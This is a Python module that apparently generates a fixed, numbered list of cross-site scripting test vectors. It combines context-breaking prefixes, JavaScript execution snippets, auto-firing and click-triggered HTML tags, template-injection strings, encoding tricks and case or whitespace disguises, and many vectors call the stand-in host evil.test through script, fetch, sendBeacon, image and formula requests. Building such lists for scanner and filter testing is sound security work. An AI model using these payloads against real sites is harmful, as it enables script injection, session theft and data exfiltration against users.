"""An own list of cross-site scripting vectors: ways out of where text stands × things that run × ways of writing them.

`{n}` in each is its own number: a dialog or a request says which one came through. Nothing is fetched from anywhere:
evil.test does not exist (RFC 6761), and a request for it is what the test looks for.
"""

from __future__ import annotations

from itertools import product

WAYS_OUT = ("", '">', "'>", "</td></tr></table>", "</textarea>", "</title>", "</script>", "-->", "]]>", '\\">', "`>",
            "</style>", "&quot;>", '" x="', "</noscript>", "<<")  # fmt: skip
RUNS = ("alert({n})", "alert`{n}`", "confirm({n})", "prompt({n})", "top['al'+'ert']({n})", "(alert)({n})",
        "window.onerror=alert;throw {n}", "eval(atob('YWxlcnQoMSk='))", "[{n}].find(alert)",
        "setTimeout('alert({n})')", "import('//evil.test/{n}.js')", "new Image().src='//evil.test/{n}'",
        "fetch('//evil.test/{n}')", "self[`alert`]({n})", "Reflect.apply(alert,null,[{n}])",
        "navigator.sendBeacon('//evil.test/{n}')", "location='//evil.test/{n}'")  # fmt: skip
BY_ITSELF = (  # runs without anybody's doing
    "<script>{run}</script>", "<script src=//evil.test/{n}.js></script>", "<img src=x onerror={q}{run}{q}>",
    "<svg onload={q}{run}{q}>", "<svg/onload={q}{run}{q}//", "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={q}{run}{q} attributeName=x dur=1s>", "<body onload={q}{run}{q}>",
    "<input autofocus onfocus={q}{run}{q}>", "<select autofocus onfocus={q}{run}{q}>",
    "<textarea autofocus onfocus={q}{run}{q}>", "<video src=x onerror={q}{run}{q}></video>",
    "<video><source onerror={q}{run}{q}></video>", "<audio src=x onerror={q}{run}{q}></audio>",
    "<details open ontoggle={q}{run}{q}>", "<marquee onstart={q}{run}{q}>x</marquee>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>", "<iframe src={q}javascript:{run}{q}></iframe>",
    "<object data={q}javascript:{run}{q}></object>", "<embed src={q}javascript:{run}{q}>",
    "<style>@keyframes a{{}}</style><b style=animation:a onanimationstart={q}{run}{q}>",
    "<math><mi><script>{run}</script>",
    "<isindex autofocus onfocus={q}{run}{q}>", "<link rel=stylesheet href=x onerror={q}{run}{q}>",
    "<meta http-equiv=refresh content={q}0;url=javascript:{run}{q}>",
)  # fmt: skip
REACHES_OUT = (  # asks another host for something
    "<img src=//evil.test/{n}>", "<img srcset=//evil.test/{n}>", "<link rel=stylesheet href=//evil.test/{n}>",
    "<link rel=prefetch href=//evil.test/{n}>", "<link rel=icon href=//evil.test/{n}>",
    "<style>@import '//evil.test/{n}';</style>", '<div style="background:url(//evil.test/{n})">x</div>',
    "<table background=//evil.test/{n}><tr><td>x</table>", "<video poster=//evil.test/{n}></video>",
    "<audio src=//evil.test/{n} autoplay></audio>", "<iframe src=//evil.test/{n}></iframe>",
    "<object data=//evil.test/{n}></object>", "<embed src=//evil.test/{n}>", "<base href=//evil.test/{n}/>",
    "<meta http-equiv=refresh content='0;url=//evil.test/{n}'>", "<svg><image href=//evil.test/{n} /></svg>",
    "<svg><use href=//evil.test/{n}#x /></svg>", "<input type=image src=//evil.test/{n}>",
    "<script src=https://evil.test/{n}></script>", "<img src=http:\\\\evil.test/{n}>",
    "<form action=//evil.test/{n}><input type=submit autofocus></form>", "<track src=//evil.test/{n} default>",
)  # fmt: skip
NEEDS_A_HAND = (  # runs when somebody points or clicks
    "<a href={q}javascript:{run}{q}>x</a>", "<a href={q}JaVaScRiPt:{run}{q}>x</a>",
    "<a href={q}&#106;avascript:{run}{q}>x</a>", "<a href={q}java&#10;script:{run}{q}>x</a>",
    "<a href={q}data:text/html,<script>{run}</script>{q}>x</a>", "<b onmouseover={q}{run}{q}>x</b>",
    "<button formaction={q}javascript:{run}{q}>x</button>", "<form action={q}javascript:{run}{q}><button>x</form>",
    "<svg><a xlink:href={q}javascript:{run}{q}><text y=9>x</text></a></svg>", "<div onclick={q}{run}{q}>x</div>",
)  # fmt: skip
TEMPLATES = ("{{{{{n}*7}}}}", "${{{n}*7}}", "#{{{n}*7}}", "<%= {n}*7 %>", "{{% import os %}}{n}",
             "{{{{constructor.constructor('alert({n})')()}}}}", "javascript:alert({n})", "data:text/html,{n}",
             "[x](javascript:alert({n}))", "![x](//evil.test/{n})", "＜script＞alert({n})＜/script＞",
             "\\u003cscript\\u003ealert({n})\\u003c/script\\u003e", "%3Cscript%3Ealert({n})%3C/script%3E",
             "&lt;script&gt;alert({n})&lt;/script&gt;", "+ADw-script+AD4-alert({n})+ADw-/script+AD4-",
             '=HYPERLINK("//evil.test/{n}")', "\u2028alert({n})\u2028",
             "\u202e<script>alert({n})</script>")  # fmt: skip
QUOTES = ('"', "'", "", "`")


def _disguised(vector: str, way: int) -> str:
    """The same in another writing, which browsers read alike."""
    if way == 1:
        return vector.replace("<s", "<S").replace("<img", "<ImG").replace("script>", "ScRiPt>").replace(" on", " oN")
    if way == 2:
        return vector.replace(" on", "/on").replace("<img ", "<img/")
    if way == 3:
        return vector.replace(" on", "\non").replace("<script>", "<script\t>")
    return vector


def vectors(least: int = 975) -> list[str]:
    """At least so many different ones, each with its number, the same every time."""
    found: dict[str, None] = {}

    def add(shape: str, run: str, quote: str, out: str, way: int) -> None:
        number = len(found)
        made = shape.replace("{run}", run) if "{run}" in shape else shape
        found[out + _disguised(made.replace("{q}", quote), way).format(n=number)] = None

    for n, (shape, run) in enumerate(product((*BY_ITSELF, *NEEDS_A_HAND), RUNS)):
        add(shape, run, QUOTES[n % 4] if " " in run or "'" not in run else '"', WAYS_OUT[n % 16], n % 4)
    for n, (shape, out) in enumerate(product(REACHES_OUT, WAYS_OUT)):
        add(shape, "", "", out, n % 4)
    for shape, out in product(TEMPLATES, ("", '">', "'>")):
        add(shape, "", "", out, 0)
    assert len(found) >= least, len(found)
    return list(found)
